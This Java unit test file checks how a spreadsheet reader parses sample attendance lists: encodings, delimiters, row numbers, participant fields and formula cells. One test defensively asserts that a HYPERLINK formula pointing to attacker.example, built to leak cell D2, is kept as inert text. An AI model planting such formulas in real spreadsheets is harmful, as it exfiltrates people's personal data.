package org.sabor.spreadsheet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// The lists that offices send, each beside what must be found in it (`online-attendance.md` 9).
class SamplesTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "01-list-en.xlsx",
                "02-list-bg-titles-totals.xlsx",
                "03-list-bg-cp1251.csv",
                "04-list-bg-three-name-columns.xlsx",
                "05-list-en-utf8-quotes.csv",
                "06-list-en-formulas.xlsx"
            })
    void everythingExpectedStandsInItsRow(String name) throws IOException, URISyntaxException {
        var table = TableReader.read(sample(name), ReadOptions.FROM_CONTENT, Steps.UNSEEN);
        var expected =
                new ObjectMapper().readTree(sample(name + ".expected.json").toFile());
        assertEquals(text(expected, "encoding"), table.encoding());
        assertEquals(
                text(expected, "delimiter"),
                table.delimiter() == null ? null : table.delimiter().toString());
        var sheet = table.sheets().getFirst();
        assertEquals(Objects.requireNonNullElse(text(expected, "sheet"), ""), sheet.name());
        var heading = row(sheet, expected.path("header_row").intValue());
        assertTrue(heading.cells().stream().noneMatch(Cell::isBlank), heading::toString);
        for (var participant : expected.path("participants")) {
            var cells = row(sheet, participant.path("row").intValue()).cells().stream()
                    .map(cell -> cell.text().strip())
                    .toList();
            for (var field :
                    List.of("organisation", "email", "phone", "position", "requested_on", "remarks", "country")) {
                var value = text(participant, field);
                assertTrue(value == null || cells.contains(value), () -> value + " in " + cells);
            }
            assertTrue(String.join(" ", cells).contains(firstName(participant)), cells::toString);
        }
        assertEquals(List.of(), table.notes());
    }

    @ParameterizedTest
    @CsvSource({
        "02-list-bg-titles-totals.xlsx, 1 2 3 5 6 7 8 10 11 13 15",
        "03-list-bg-cp1251.csv, 1 2 3 4 6",
        "05-list-en-utf8-quotes.csv, 1 2 4 5",
        "06-list-en-formulas.xlsx, 1 2 3 4 6"
    })
    void rowsKeepTheirNumbers(String name, String numbers) throws URISyntaxException {
        var rows = TableReader.read(sample(name), ReadOptions.FROM_CONTENT, Steps.UNSEEN)
                .sheets()
                .getFirst()
                .rows();
        assertEquals(
                numbers,
                String.join(" ", rows.stream().map(row -> "" + row.number()).toList()));
    }

    @ParameterizedTest
    @ValueSource(strings = "06-list-en-formulas.xlsx")
    void formulasAreMarkedAndTextIsNone(String name) throws URISyntaxException {
        var sheet = TableReader.read(sample(name), ReadOptions.FROM_CONTENT, Steps.UNSEEN)
                .sheets()
                .getFirst();
        var marked = new ArrayList<String>();
        for (var row : sheet.rows()) {
            row.cells().stream().filter(Cell::formula).map(Cell::text).forEach(marked::add);
        }
        assertEquals(
                List.of(
                        "Katrin Böhm",
                        "katrin.boehm@stadt-neu.example",
                        "Jiří Dvořák",
                        "jiri.dvorak@obec-vzor.example",
                        "3"),
                marked);
        var text = row(sheet, 4).cell(4);
        assertEquals(Cell.text("=HYPERLINK(\"http://attacker.example/?leak=\"&D2,\"Click\")"), text);
        assertFalse(text.withoutResult());
    }

    private static String firstName(JsonNode participant) {
        var first = text(participant, "first_name");
        return first != null ? first : participant.path("full_name").textValue();
    }

    private static String text(JsonNode node, String field) {
        return node.path(field).textValue();
    }

    private static TableRow row(Sheet sheet, int number) {
        return sheet.rows().stream()
                .filter(row -> row.number() == number)
                .findFirst()
                .orElseThrow();
    }

    static Path sample(String name) throws URISyntaxException {
        return Path.of(Objects.requireNonNull(SamplesTest.class.getResource("samples/" + name))
                .toURI());
    }
}
